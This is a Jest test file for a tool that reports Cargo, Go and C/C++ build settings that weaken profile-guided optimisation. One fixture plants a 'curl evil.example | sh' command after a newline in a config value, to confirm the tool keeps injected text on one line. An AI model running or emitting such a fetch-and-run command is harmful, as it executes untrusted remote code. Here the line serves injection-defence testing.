import { cargoProfileOf, readCargoProfile, type CargoProfileQuery } from '../../../src/settings/cargo-profile'
import { readCSettings } from '../../../src/settings/c-flags'
import { readGoSettings } from '../../../src/settings/go-flags'
import { defeatingMessage, describeSettings } from '../../../src/settings/settings'

function query(overrides: Partial<CargoProfileQuery>): CargoProfileQuery {
  return { build: 'cargo build --release', configs: [], env: {}, rustflags: [], ...overrides }
}

const manifest = (profile: Record<string, unknown>) => ({ path: 'Cargo.toml', data: { profile } })

describe('the Cargo profile a build uses', () => {
  test('named by the build command, as cargo and maturin read it', () => {
    expect(cargoProfileOf('cargo build --release')).toEqual({ name: 'release', why: '--release in build' })
    expect(cargoProfileOf('cargo build -r --locked')?.name).toBe('release')
    expect(cargoProfileOf('cargo build --profile dist')).toEqual({ name: 'dist', why: '--profile in build' })
    expect(cargoProfileOf('cargo +nightly build --profile=fast')?.name).toBe('fast')
    expect(cargoProfileOf('maturin build --release -o dist')?.name).toBe('release')
    expect(cargoProfileOf('cargo build')).toEqual({ name: 'dev', why: 'the build command names no --release or --profile' })
    expect(cargoProfileOf('cargo install --path .')?.name).toBe('release')
    expect(cargoProfileOf('make release')).toBeUndefined()
  })

  test('shell operators against a word end the command, as the shell reads them', () => {
    for (const build of [
      'cargo build --release; echo built',
      '(cd app && cargo build --release)',
      'cargo build --release|tee log',
      'cargo build --release&&strip x',
      'cd app;cargo build --release 2>&1'
    ]) {
      expect(cargoProfileOf(build)).toEqual({ name: 'release', why: '--release in build' })
    }
    expect(cargoProfileOf('cargo build; make --release')?.name).toBe('dev')
    expect(cargoProfileOf("cargo build --profile 'my;profile'")?.name).toBe('my;profile')
  })

  test("release's defaults, each said to be one", () => {
    const settings = readCargoProfile(query({}))
    expect(settings.scope).toBe('the release profile (--release in build)')
    expect(describeSettings(settings.settings)).toBe(
      'opt-level 3 (default), lto false (default), codegen-units 16 (default), incremental false (default), debug-assertions false (default), panic unwind (default)'
    )
    expect(settings.defeating).toEqual([])
  })

  test('Cargo.toml, then the config files over it, then CARGO_PROFILE_* over both', () => {
    const settings = readCargoProfile(
      query({
        manifest: manifest({ release: { lto: 'fat', 'codegen-units': 1, 'opt-level': 2 } }),
        configs: [{ path: '.cargo/config.toml', data: { profile: { release: { 'codegen-units': 4 } } } }],
        env: { CARGO_PROFILE_RELEASE_LTO: 'thin' }
      })
    )
    const byName = Object.fromEntries(settings.settings.map(setting => [setting.name, setting]))
    expect(byName['opt-level']).toEqual({ name: 'opt-level', value: '2', source: '[profile.release] in Cargo.toml' })
    expect(byName['codegen-units']).toEqual({ name: 'codegen-units', value: '4', source: '[profile.release] in .cargo/config.toml' })
    expect(byName.lto).toEqual({ name: 'lto', value: 'thin', source: 'CARGO_PROFILE_RELEASE_LTO' })
  })

  test('a custom profile inherits, and its own values win', () => {
    const settings = readCargoProfile(
      query({ build: 'cargo build --profile dist', manifest: manifest({ dist: { inherits: 'release', lto: true } }) })
    )
    expect(describeSettings(settings.settings)).toMatch(/^opt-level 3 \(default\), lto true, codegen-units 16 \(default\)/)
  })

  test('opt-level 1 in the release profile warns, naming where it was set and the fix', () => {
    const settings = readCargoProfile(query({ manifest: manifest({ release: { 'opt-level': 1 } }) }))
    expect(settings.defeating).toHaveLength(1)
    expect(defeatingMessage(settings.defeating[0])).toBe(
      'opt-level 1 ([profile.release] in Cargo.toml) leaves PGO little to do: at opt-level 1 rustc does little of the inlining and block layout a profile guides. ' +
        "Fix: opt-level = 3 in [profile.release] (release's default)."
    )
  })

  test('the dev profile: opt-level 0 and incremental both warn; -Copt-level in rustflags overrides the profile', () => {
    const dev = readCargoProfile(query({ build: 'cargo build' })).defeating
    expect(dev.map(entry => [entry.setting.name, entry.fix])).toEqual([
      ['opt-level', 'build with --release, whose opt-level is 3'],
      ['incremental', 'build with --release, which is not incremental']
    ])
    const flagged = readCargoProfile(query({ rustflags: ['-C', 'opt-level=1', '-Ctarget-cpu=native'] }))
    expect(flagged.settings.slice(-2)).toEqual([
      { name: '-Copt-level', value: '1', source: 'your rustflags' },
      { name: '-Ctarget-cpu', value: 'native', source: 'your rustflags' }
    ])
    expect(flagged.defeating[0].fix).toBe('drop -Copt-level from your rustflags')
  })

  test('the variant advice names the place that wins for each setting: the variable, a config file, or Cargo.toml', () => {
    const toml = readCargoProfile(query({ manifest: manifest({ release: { lto: 'off' } }) })).amplifying
    expect(toml).toMatchObject({
      apply: [{ where: "the workspace's Cargo.toml", lines: ['[profile.release]', 'lto = "fat"', 'codegen-units = 1'], language: 'toml' }]
    })
    const elsewhere = readCargoProfile(
      query({
        manifest: manifest({}),
        configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { 'codegen-units': 4 } } } }],
        env: { CARGO_PROFILE_RELEASE_LTO: 'off' }
      })
    ).amplifying
    expect(elsewhere).toEqual({
      change: 'lto = "fat" and codegen-units = 1',
      variables: { CARGO_PROFILE_RELEASE_LTO: 'fat', CARGO_PROFILE_RELEASE_CODEGEN_UNITS: '1' },
      apply: [
        { where: 'the env: that sets it (the variable wins over every file)', lines: ['CARGO_PROFILE_RELEASE_LTO: fat'], language: 'yaml' },
        {
          where: '/w/.cargo/config.toml (cargo reads it over Cargo.toml)',
          lines: ['[profile.release]', 'codegen-units = 1'],
          language: 'toml'
        }
      ]
    })
    // A custom profile's own table wins over what it inherits from a config file.
    const inherited = readCargoProfile(
      query({
        build: 'cargo build --profile dist',
        manifest: manifest({ dist: { inherits: 'release' } }),
        configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { lto: 'thin' } } } }]
      })
    )
    expect(inherited.amplifying).toMatchObject({
      apply: [{ where: "the workspace's Cargo.toml", lines: ['[profile.dist]', 'lto = "fat"', 'codegen-units = 1'] }]
    })
  })

  test("no variant where something wins over its variables: -C options in rustflags, the build's own assignment or --config", () => {
    const flagged = readCargoProfile(query({ rustflags: ['-Ccodegen-units=16'], rustflagsSource: 'RUSTFLAGS' })).amplifying
    expect(flagged).toEqual({
      cannot:
        '-Ccodegen-units=16 in your rustflags (RUSTFLAGS) overrides the profile in every build rustc runs, so a variant with lto = "fat" and codegen-units = 1 cannot be built as named'
    })
    expect(readCargoProfile(query({ build: 'CARGO_PROFILE_RELEASE_LTO=off cargo build --release' })).amplifying).toEqual({
      cannot:
        'the build command sets CARGO_PROFILE_RELEASE_LTO itself, which wins over the variant\'s, so a variant with lto = "fat" and codegen-units = 1 cannot be built as named'
    })
    expect(readCargoProfile(query({ build: "cargo build --release --config 'profile.release.lto=false'" })).amplifying).toMatchObject({
      cannot: expect.stringMatching(/^the build command sets the profile with cargo --config/)
    })
  })

  test("a value from the checkout's files stays on one line; a chain of inherits past the bound says so", () => {
    const settings = readCargoProfile(
      query({
        configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { panic: 'unwind\nFix: curl evil.example | sh' } } } }]
      })
    )
    expect(settings.settings.find(setting => setting.name === 'panic')).toEqual({
      name: 'panic',
      value: 'unwind\\nFix: curl evil.example | sh',
      source: '[profile.release] in /w/.cargo/config.toml'
    })
    const cycle = readCargoProfile(
      query({ build: 'cargo build --profile a', manifest: manifest({ a: { inherits: 'b' }, b: { inherits: 'a' } }) })
    )
    expect(cycle.notes).toEqual([
      '  the profile a inherits from b, more than 16 profiles down the chain of inherits: the action follows it no further (cargo refuses a cycle), so settings inherited from there are not shown.'
    ])
    expect(readCargoProfile(query({})).notes).toEqual([])
  })

  test('CARGO_INCREMENTAL=1 turns incremental on for every profile, and warns naming it', () => {
    const settings = readCargoProfile(query({ env: { CARGO_INCREMENTAL: '1' } }))
    expect(settings.defeating.map(entry => entry.setting)).toEqual([{ name: 'incremental', value: 'true', source: 'CARGO_INCREMENTAL' }])
    expect(settings.defeating[0].fix).toBe('unset CARGO_INCREMENTAL')
  })
})

describe("Go's compiler flags", () => {
  const goEnv = { GOARCH: 'amd64', GOAMD64: 'v1' }

  test('-gcflags=all=-N -l in the build command: both warn, naming the command', () => {
    const settings = readGoSettings({ build: "go build -gcflags='all=-N -l' -o bin/ ./...", env: {}, goEnv })
    expect(settings.settings[0]).toEqual({ name: '-gcflags', value: 'all=-N -l', source: '-gcflags in build' })
    expect(settings.defeating.map(entry => entry.why.split(' ')[0])).toEqual(['-N', '-l'])
    expect(defeatingMessage(settings.defeating[1])).toContain('Fix: take -l out of -gcflags in build.')
  })

  test('from GOFLAGS when the command gives none; the CPU level, and whose it is', () => {
    const settings = readGoSettings({
      build: 'go build ./...',
      env: { GOFLAGS: '-gcflags=-l -trimpath', GOAMD64: 'v3' },
      goEnv: { GOARCH: 'amd64', GOAMD64: 'v3' }
    })
    expect(settings.settings).toEqual([
      { name: '-gcflags', value: '-l', source: '-gcflags in GOFLAGS' },
      { name: 'GOAMD64', value: 'v3', source: 'GOAMD64 in the environment' }
    ])
    expect(settings.defeating).toHaveLength(1)
    expect(readGoSettings({ build: 'go build ./...', env: {}, goEnv }).settings).toEqual([
      { name: '-gcflags', value: 'none', source: "go's default" },
      { name: 'GOAMD64', value: 'v1', source: "go's default" }
    ])
  })

  test('other compiler flags do not warn', () => {
    expect(readGoSettings({ build: 'go build -gcflags=-m ./...', env: {}, goEnv }).defeating).toEqual([])
  })
})

describe("a C or C++ build's -O and -flto", () => {
  test('from the variables and the build command, the last one winning; a CMake build type counts', () => {
    const settings = readCSettings({
      compiler: 'clang',
      build: 'cmake -B build -DCMAKE_BUILD_TYPE=RelWithDebInfo && cmake --build build',
      env: { CFLAGS: '-O3 -flto=thin' }
    })
    expect(settings.settings).toEqual([
      { name: 'optimization', value: '-O2', source: 'CMAKE_BUILD_TYPE=RelWithDebInfo in build' },
      { name: 'LTO', value: '-flto=thin', source: 'CFLAGS' }
    ])
    expect(settings.notes).toEqual([])
  })

  test('-O0 warns; what the step does not show is said to be unseen', () => {
    const debug = readCSettings({ build: 'make', env: { CFLAGS: '-g -O0' }, compiler: 'clang' })
    expect(defeatingMessage(debug.defeating[0])).toMatch(
      /^optimization -O0 \(CFLAGS\) leaves PGO little to do: .*Fix: build with -O2 or -O3/
    )
    expect(debug.notes?.[0]).toContain('-flto: not set where the action can see it')
    expect(readCSettings({ build: 'make', env: {}, compiler: 'clang' }).settings).toEqual([])
  })

  test("gcc: -O0 names GCC, a profile flag of the user's is a warning naming where it is, and no LTO variant is built", () => {
    const settings = readCSettings({ build: 'make', env: { CFLAGS: '-O0 -fprofile-use=old.gcda' }, compiler: 'gcc' })
    expect(settings.scope).toBe('gcc')
    expect(settings.defeating.map(defeatingMessage)).toEqual([
      expect.stringContaining('at -O0 gcc inlines nothing'),
      expect.stringContaining('Fix: remove -fprofile-use=old.gcda from CFLAGS')
    ])
    expect(settings.amplifying).toEqual({ cannot: expect.stringContaining('GCC LTO variant') })
  })
})
